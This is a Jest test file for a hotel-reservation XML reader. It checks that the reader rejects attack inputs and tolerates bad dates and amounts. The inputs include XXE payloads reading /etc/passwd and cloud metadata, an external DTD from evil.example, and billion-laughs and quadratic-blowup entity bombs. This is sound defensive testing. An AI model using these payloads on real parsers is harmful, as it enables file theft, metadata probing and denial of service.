import { expect, test } from '@jest/globals';
import { readReservationMessages } from '../../src/domain/messages/read-reservation-messages.ts';

const MEGABYTE = 1024 * 1024;
const OPEN = '<OTA_HotelResNotifRQ xmlns="http://www.opentravel.org/OTA/2003/05" EchoToken="1">';
const WHOLE = `${OPEN}<HotelReservations><HotelReservation><UniqueID Type="14" ID="R1"/></HotelReservation></HotelReservations></OTA_HotelResNotifRQ>`;
const BOMB = Array.from({ length: 9 }, (_, level) => `<!ENTITY e${level + 1} "${`&e${level};`.repeat(10)}">`).join('');

const ATTACKS: readonly (readonly [string, string | Uint8Array, string])[] = [
  ['a local file by entity', `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>${WHOLE}`, 'DTD_FORBIDDEN'],
  ['metadata by entity', `<!DOCTYPE r [<!ENTITY x SYSTEM "http://169.254.169.254/">]>${WHOLE}`, 'DTD_FORBIDDEN'],
  ['an external DTD', `<!DOCTYPE r SYSTEM "http://evil.example/x.dtd">${WHOLE}`, 'DTD_FORBIDDEN'],
  ['billion laughs', `<!DOCTYPE r [<!ENTITY e0 "lol">${BOMB}]><r>&e9;</r>`, 'DTD_FORBIDDEN'],
  [
    'quadratic blowup',
    `<!DOCTYPE r [<!ENTITY a "${'a'.repeat(100_000)}">]><r>${'&a;'.repeat(50_000)}</r>`,
    'DTD_FORBIDDEN',
  ],
  ['100 MB', Buffer.alloc(100 * MEGABYTE, 0x20), 'TOO_LARGE'],
  ['50,000 levels', '<a>'.repeat(50_000), 'TOO_DEEP'],
  ['an undeclared entity', WHOLE.replace('R1', '&guest;'), 'UNDEFINED_ENTITY'],
  ['a mismatched tag', WHOLE.replace('</HotelReservation>', '</Hotel>'), 'MISMATCHED_TAG'],
  ['HTTP headers above', `POST / HTTP/1.1\nHost: a\n\n${WHOLE}`, 'TEXT_OUTSIDE_ROOT'],
  [
    '100,000 reservations',
    `${OPEN}<HotelReservations>${'<HotelReservation/>'.repeat(100_000)}</HotelReservations></OTA_HotelResNotifRQ>`,
    'TOO_MANY_RECORDS',
  ],
];

test.each(ATTACKS)('%s is rejected', (_, input, code) => {
  const outcome = readReservationMessages(input);

  expect(outcome).toMatchObject({ kind: 'rejected', fault: { code } });
});

test('a message cut off anywhere is rejected with a reason', () => {
  for (let length = 0; length < WHOLE.length; length += 1)
    expect(readReservationMessages(WHOLE.slice(0, length)).kind).toBe('rejected');
  expect(readReservationMessages(WHOLE).kind).toBe('read');
});

test('refusing 100 MB holds no second copy of it', () => {
  const message = Buffer.alloc(100 * MEGABYTE, 0x20);
  const before = process.memoryUsage().rss;

  readReservationMessages(message);

  expect(process.memoryUsage().rss - before).toBeLessThan(50 * MEGABYTE);
});

test.each([
  ['End before Start', 'Start="2027-02-02" End="2027-02-01"', []],
  ['a day that does not exist', 'Start="2027-02-30" End="2027-03-01"', ['roomStays[0].arrival']],
  ['a word as date', 'Start="tomorrow" End="2027-03-01"', ['roomStays[0].arrival']],
])('%s does not stop a message', (_, span, doubts) => {
  const stay = `<RoomStays><RoomStay><TimeSpan ${span}/><Total AmountAfterTax="10.5" CurrencyCode="eur"/></RoomStay></RoomStays>`;
  const outcome = readReservationMessages(WHOLE.replace('<UniqueID', `${stay}<UniqueID`));

  expect(outcome).toMatchObject({
    reservations: [{ doubts, roomStays: [{ total: { afterTax: '10.5', currency: 'EUR' } }] }],
  });
});

test.each([
  ['1e309', 'roomStays[0].total.afterTax'],
  ['NaN', 'roomStays[0].total.afterTax'],
  ['12,50', 'roomStays[0].total.afterTax'],
])('the amount %s is left out and named', (amount, doubt) => {
  const stay = `<RoomStays><RoomStay><Total AmountAfterTax="${amount}"/></RoomStay></RoomStays>`;
  const outcome = readReservationMessages(WHOLE.replace('<UniqueID', `${stay}<UniqueID`));

  expect(outcome).toMatchObject({ reservations: [{ doubts: [doubt] }] });
});
